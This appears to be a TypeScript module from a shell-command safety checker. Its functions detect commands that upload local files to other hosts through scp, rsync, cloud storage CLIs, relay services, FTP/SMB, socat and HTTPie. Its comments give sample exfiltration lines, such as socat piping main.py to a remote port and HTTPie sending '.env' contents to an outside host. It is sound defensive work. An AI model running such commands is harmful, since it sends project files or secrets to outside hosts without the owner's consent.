// The tests the upload entries (danger-upload.ts) use for files copied to another host: scp, rsync, cloud buckets,
// relay services, FTP and SMB clients, socat, and HTTPie's file items.
import type { CommandView } from '../shell/view.ts';
import { operands, optionValue } from './flags.ts';
import { disposablePath } from './disposable-output.ts';
import { LOCAL_HOST } from './danger-infra.ts';
import { madeFromProject } from '../shell/downloads.ts';
import { fedFromFile, readsFileInWord } from './danger-upload-contents.ts';

/** A remote operand of scp/rsync (`host:path`, `user@host:path`, `rsync://host/…`; not `localhost:`, not a Windows drive). */
export const REMOTE_OPERAND =
  /^(?:rsync:\/\/|scp:\/\/|sftp:\/\/)?(?:[\w.-]+@)?(?!localhost[:/]|127\.0\.0\.1[:/])[\w.-]{2,}(?::|\/\/)|^(?:rsync|scp|sftp):\/\/(?!localhost|127\.)/;
const RSYNC_WITH_ARG = [
  '-e',
  '--rsh',
  '--rsync-path',
  '--exclude',
  '--include',
  '--filter',
  '-f',
  '--exclude-from',
  '--include-from',
  '--files-from',
  '--chmod',
  '--timeout',
  '--port',
  '--bwlimit',
  '--log-file',
  '-T',
  '--temp-dir',
  '--backup-dir',
  '--suffix',
  '--link-dest',
  '--compare-dest',
  '--copy-dest',
];
const SCP_WITH_ARG = ['-P', '-i', '-o', '-F', '-c', '-l', '-S', '-J', '-D', '-X'];

/** A local path that is build output (`dist/`, `build/app.tar.gz`), and not an archive this line packed the project into. */
export function deployable(v: CommandView, path: string): boolean {
  return disposablePath(path.split('/').filter((s) => s !== '' && s !== '.')) && !madeFromProject(v, path);
}

/**
 * `scp notes.txt host:`, `scp -r . host:/tmp`, `rsync -a ./ host:dir/`, `sftp host` with `put` in its batch: any local
 * file sent to another host. Copying from a host (`scp host:log .`), to localhost, or build output (a deploy) is not.
 */
export function copiesToRemote(v: CommandView): boolean {
  if (v.program === 'sftp')
    return (
      /(^|\n)\s*(put|mput|reput)\b/.test(v.stdin?.text ?? '') ||
      (v.stdin?.text === undefined && v.args.some((a) => a === '-b'))
    );
  const ops = operands(v.args, v.program === 'scp' ? SCP_WITH_ARG : RSYNC_WITH_ARG);
  if (ops.length < 2) return false;
  const dest = ops.at(-1)!;
  if (!REMOTE_OPERAND.test(dest) || /^\.{0,2}\//.test(dest)) return false;
  const sources = ops.slice(0, -1).filter((o) => !REMOTE_OPERAND.test(o) || /^\.{0,2}\//.test(o));
  return sources.some((o) => !deployable(v, o));
}

/** Cloud storage CLIs: a copy whose source is here and whose target is a bucket or remote. */
export const BUCKET_COPIERS = new Set(['gsutil', 'aws', 'rclone', 'gcloud', 'azcopy', 's3cmd', 'mc', 'b2']);
const REMOTE_STORE =
  /^(gs|s3|az|r2|b2):\/\/|^https:\/\/[\w.-]+\.(blob\.core\.windows\.net|s3[\w.-]*\.amazonaws\.com)\/|^[\w-]+:(?!\/\/)/;
/** The storage CLIs' options that take a value (`--exclude '.git/*'`): their values are no source or target. */
const WITH_VALUE =
  /^(--(exclude|include|filter|exclude-from|include-from|filter-from|files-from|profile|region|acl|storage-class|cache-control|content-type|content-encoding|endpoint-url|sse|sse-c|sse-kms-key-id|metadata|metadata-directive|expires|grants|config|transfers|checkers|bwlimit|max-age|min-age|max-size|min-size|backup-dir|log-file|log-level|output|query|project|billing-project)|-[xhop])$/;
/** The words of a command line without its options and the values options of WITH_VALUE take. */
function wordsWithoutOptionValues(args: readonly string[]): string[] {
  return args.filter((a, i) => !a.startsWith('-') && !WITH_VALUE.test(args[i - 1] ?? ''));
}

/** `gsutil -m cp -r . gs://b`, `aws s3 sync . s3://b`, `rclone copy data remote:x`, `gcloud storage cp x gs://b`: local source, remote target. */
export function copiesToBucket(v: CommandView): boolean {
  if (v.args.some((a) => a === '--dryrun' || a === '--dry-run')) return false;
  const w = wordsWithoutOptionValues(v.args);
  // `aws s3api put-object --body data.db`, `b2 upload-file bucket data.db name`: one object from a local file.
  if (v.program === 'aws' && w[0] === 's3api' && /^(put-object|upload-part)$/.test(w[1] ?? ''))
    return optionValue(v.args, ['--body']) !== undefined;
  if (v.program === 'b2' && (/^upload[-_]file$/.test(w[0] ?? '') || (w[0] === 'file' && w[1] === 'upload')))
    return true;
  const at = w.findIndex((x) => /^(cp|sync|rsync|copy|copyto|move|moveto|mv|put|mirror)$/.test(x));
  if (at < 0 || (v.program === 'aws' && w[at - 1] !== 's3') || (v.program === 'gcloud' && w[at - 1] !== 'storage'))
    return false;
  const rest = w.slice(at + 1);
  if (rest.length < 2) return false;
  const target = rest[rest.length - 1]!;
  const remoteTarget =
    v.program === 'rclone' || v.program === 'mc'
      ? /^[\w-]+:|^[\w-]+\/[\w.-]/.test(target) && !target.startsWith('./')
      : REMOTE_STORE.test(target);
  // (Build output sent to a site's bucket is a deploy of what is public anyway: `aws s3 sync ./dist s3://site/`.)
  return (
    remoteTarget &&
    rest
      .slice(0, -1)
      .some(
        (src) =>
          !REMOTE_STORE.test(src) && !/^[\w-]+:/.test(src) && (!BUILD_OUTPUT.test(src) || madeFromProject(v, src)),
      )
  );
}
const BUILD_OUTPUT = /^(\.\/)?(dist|build|out|public|_site|site|www|storybook-static|\.next\/static|coverage)(\/.*)?$/;

/** `az storage blob upload --file x`, `az storage blob upload-batch -s .`, `az storage file upload --source x`; `oci os object put --file x`. */
export function azureOrOciUploads(v: CommandView): boolean {
  const w = v.args.filter((a) => !a.startsWith('-'));
  if (v.program === 'oci') return w[0] === 'os' && w[1] === 'object' && /^(put|bulk-upload|sync)$/.test(w[2] ?? '');
  return (
    (w[0] === 'storage' && /^(blob|file|fs)$/.test(w[1] ?? '') && /^(upload|upload-batch|sync)$/.test(w[2] ?? '')) ||
    (w[0] === 'storage' && w[1] === 'azcopy' && w[3] === 'upload')
  );
}

/** Programs that hand a file to someone else through a relay: `wormhole send`, `croc send`, `ffsend upload`, `gh gist create`. */
export function sendsThroughService(v: CommandView): boolean {
  const w = v.args.filter((a) => !a.startsWith('-'));
  switch (v.program) {
    case 'wormhole':
    case 'magic-wormhole':
    case 'croc':
      return w[0] === 'send';
    case 'ffsend':
      return w[0] === 'upload' || w[0] === 'u' || w[0] === 'up';
    case 'gh':
      return w[0] === 'gist' && w[1] === 'create';
    case 'pastebinit':
    case 'ncftpput':
      return true;
    default:
      return false;
  }
}

/** FTP and SMB clients told to `put` a file (`lftp -e 'put x' host`, `smbclient //h/s -c 'put x'`, `tftp h -c put x`, `ftp` fed `put`). */
export function ftpPuts(v: CommandView): boolean {
  const commands = [
    v.stdin?.text ?? '',
    ...v.args.filter((_, i) => /^(-c|-e|--command)$/.test(v.args[i - 1] ?? '')),
  ].join('\n');
  if (v.program === 'tftp') return v.args.includes('put');
  if (v.program === 'ftp' && v.args.includes('-u')) return true; // BSD ftp's upload: `ftp -u URL file`
  return /(^|[\n;])\s*(put|mput|reput|mirror\s+(-\S+\s+)*(-R|--reverse))\b/.test(commands);
}

/**
 * `socat FILE:main.py TCP:203.0.113.5:4444`, `socat -u OPEN:x OPENSSL:h:443`: a file read on one side of socat is
 * sent to a host on the other (its last two addresses; -u sends only first to second, -U only second to first).
 */
export function socatSendsFile(v: CommandView): boolean {
  const addrs = v.args.filter((a) => a === '-' || (!a.startsWith('-') && a.includes(':')));
  if (addrs.length < 2) return false;
  const [first, second] = [addrs.at(-2)!, addrs.at(-1)!];
  const file = (a: string): boolean => /^(FILE|OPEN|GOPEN):/i.test(a);
  const remote = (a: string): boolean =>
    /^(TCP[46]?|UDP[46]?|SCTP[46]?|OPENSSL|SSL|PROXY)(-CONNECT)?:/i.test(a) &&
    !/^[^:]+:(localhost|127\.\d+\.\d+\.\d+|\[?::1\]?)[:,]/i.test(a);
  return (
    (!v.args.includes('-U') && file(first) && remote(second)) ||
    (!v.args.includes('-u') && file(second) && remote(first))
  );
}

/** HTTPie and xh: options that take a value (the first operands after them are METHOD, URL, then request items). */
const HTTPIE_WITH_ARG = new Set([
  '-a',
  '--auth',
  '-A',
  '--auth-type',
  '-o',
  '--output',
  '--session',
  '--session-read-only',
  '--verify',
  '--cert',
  '--cert-key',
  '--cert-key-pass',
  '--proxy',
  '--timeout',
  '--max-redirects',
  '--pretty',
  '-s',
  '--style',
  '-p',
  '--print',
  '-P',
  '--history-print',
  '--format-options',
  '--response-charset',
  '--response-mime',
  '--boundary',
  '--default-scheme',
  '--ssl',
  '--ciphers',
  '--raw',
  '--max-headers',
  '--bearer',
  '--resolve',
  '--interface',
  '--unix-socket',
  '--http-version',
]);
export const HTTPIE = new Set(['http', 'https', 'xh', 'xhs']);
/** Request items that send a file: `field@file` (upload), `field=@file` / `field:=@file` (its contents), `Header:@file`, and a bare `@file` body. */
const HTTPIE_FILE_ITEM = /^(?:@.|[^=@]*?(?:=@|:=@|:@|@).)/;
/**
 * `http --form POST https://x.example files@dist/bundle.zip`, `http POST x.example @data.json`, `xh POST x.example < dump.sql`,
 * `cat main.py | https x.example/in`, `http --raw "$(cat .env)" x.example`: a file sent with HTTPie or xh to a host
 * that is not this machine (`:3000` is HTTPie's localhost). `--offline` only prints the request.
 */
export function httpieSendsFile(v: CommandView): boolean {
  if (v.args.includes('--offline')) return false;
  const ops: string[] = [];
  let raw = false;
  for (let i = 0; i < v.args.length; i++) {
    const a = v.args[i]!;
    if (a === '--raw' || a.startsWith('--raw=')) {
      raw = readsFileInWord(v, a === '--raw' ? i + 1 : i);
      if (a === '--raw') i++;
      continue;
    }
    if (a === '--') {
      ops.push(...v.args.slice(i + 1));
      break;
    }
    if (a.startsWith('-') && a.length > 1) {
      if (HTTPIE_WITH_ARG.has(a)) i++;
      continue;
    }
    ops.push(a);
  }
  const url = /^[A-Za-z]+$/.test(ops[0] ?? '') && ops.length > 1 ? ops[1] : ops[0];
  if (url === undefined || url.startsWith(':') || LOCAL_HOST.test(url) || /^(https?:\/\/)?localhost$/.test(url))
    return false;
  const items = ops.slice(ops.indexOf(url) + 1);
  const stdin = !v.args.some((a) => a === '--ignore-stdin' || a === '-I') && fedFromFile(v);
  return raw || stdin || items.some((it) => HTTPIE_FILE_ITEM.test(it));
}
